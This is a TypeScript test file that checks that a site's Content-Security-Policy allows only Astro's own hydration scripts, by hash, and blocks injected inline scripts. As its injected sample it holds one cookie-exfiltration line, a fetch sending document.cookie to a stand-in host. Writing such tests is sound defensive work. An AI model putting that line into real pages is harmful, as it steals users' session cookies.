/**
 * The Content-Security-Policy allows Astro's own inline scripts and nothing a page happens to
 * contain. The pages are rendered by Astro itself (its container API, the same renderer the
 * server uses), so the hydration scripts under test are what Astro really writes; hashes are
 * SHA-256 in base64 as CSP Level 3 (W3C, "hash-source") defines them.
 */
import { describe, it, expect, beforeAll } from 'vitest';
import { createHash } from 'node:crypto';
import { experimental_AstroContainer as AstroContainer } from 'astro/container';
import { createComponent, render, renderComponent } from 'astro/runtime/server/index.js';
import { cspForHtml, parseBuildHashes } from '../../src/server/csp';

const hashOf = (script: string) => `'sha256-${createHash('sha256').update(script, 'utf8').digest('base64')}'`;

/** The body of every inline (no src) script element of a page. */
const inlineScripts = (html: string) => [...html.matchAll(/<script(?![^>]*\bsrc=)[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]!);

/** script-src sources of a policy. */
const scriptSources = (policy: string) =>
  policy
    .split(';')
    .map((d) => d.trim())
    .find((d) => d.startsWith('script-src '))!
    .split(/\s+/)
    .slice(1);

const INJECTED = 'fetch("https://evil.invalid/?c="+document.cookie)';

let container: AstroContainer;

/** A page as Astro renders it: one island per given directive. */
async function renderPage(directives: Array<'load' | 'visible' | 'idle'>): Promise<string> {
  const Island = () => null;
  const Page = createComponent(
    async (result: any) =>
      render`<main>${directives.map((d, i) =>
        renderComponent(result, `Island${i}`, Island, {
          [`client:${d}`]: true,
          'client:component-hydration': d,
          'client:component-path': `/src/components/Island${i}.tsx`,
          'client:component-export': 'default',
        }),
      )}</main>`,
  );
  return container.renderToString(Page);
}

beforeAll(async () => {
  container = await AstroContainer.create();
  container.addServerRenderer({
    name: 'plain',
    renderer: { name: 'plain', check: () => true, renderToStaticMarkup: async () => ({ html: '<button type="button">Start run</button>' }) } as never,
  });
  container.addClientRenderer({ name: 'plain', entrypoint: '/plain-client.js' });
});

describe('content security policy for HTML pages', () => {
  it('allows every inline script Astro writes to hydrate islands (astro-island runtime and each directive)', async () => {
    const html = await renderPage(['load', 'visible', 'idle']);
    const scripts = inlineScripts(html);
    // The island runtime plus one script per directive.
    expect(scripts.length).toBe(4);
    expect(scripts.some((s) => s.includes('customElements.define("astro-island"'))).toBe(true);
    const allowed = scriptSources(cspForHtml(html));
    for (const s of scripts) expect(allowed, s.slice(0, 80)).toContain(hashOf(s));
  });

  it.each([
    ['a plain injected script', `<script>${INJECTED}</script>`],
    ['an injected module script', `<script type="module">${INJECTED}</script>`],
    [
      "Astro's load directive with one character changed",
      '<script>(()=>{var e=async t=>{await(await t())()};(self.Astro||(self.Astro={})).load=e;window.dispatchEvent(new Event("astro:loaded"));})();</script>',
    ],
  ])('does not allow %s, even when it is in the page', async (_name, injected) => {
    const page = (await renderPage(['load'])).replace('</main>', `</main>${injected}`);
    const body = inlineScripts(injected)[0]!;
    expect(inlineScripts(page)).toContain(body);
    expect(scriptSources(cspForHtml(page))).not.toContain(hashOf(body));
  });

  it('is the same policy whatever the page contains, and never allows inline scripts wholesale', async () => {
    const a = cspForHtml(await renderPage(['load']));
    const b = cspForHtml(`<html><body><script>${INJECTED}</script></body></html>`);
    expect(b).toBe(a);
    const sources = scriptSources(a);
    expect(sources).not.toContain("'unsafe-inline'");
    expect(sources).not.toContain("'unsafe-eval'");
    expect(sources[0]).toBe("'self'");
    for (const s of sources.slice(1)) expect(s).toMatch(/^'sha256-[A-Za-z0-9+/]{43}='$/);
    expect(a).toContain("object-src 'none'");
    expect(a).toContain("frame-ancestors 'none'");
  });
});

describe('the build hash file (scripts/csp-hashes.ts)', () => {
  it('reads the hash sources it lists', () => {
    const hash = hashOf('document.getElementById("print-sheet")');
    expect(parseBuildHashes(JSON.stringify({ astroVersion: '5.18.2', scripts: [{ source: 'inlined:src/pages/reports/run-sheet.astro', hash }] }))).toEqual([
      hash,
    ]);
  });

  it.each([
    ['a keyword instead of a hash', "'unsafe-inline'"],
    ['a hash without quotes', hashOf('x').slice(1, -1)],
    ['a nonce', "'nonce-abc'"],
  ])('refuses %s', (_name, hash) => {
    expect(() => parseBuildHashes(JSON.stringify({ astroVersion: '5.18.2', scripts: [{ source: 'x', hash }] }))).toThrow(/not a SHA-256 source/);
  });
});
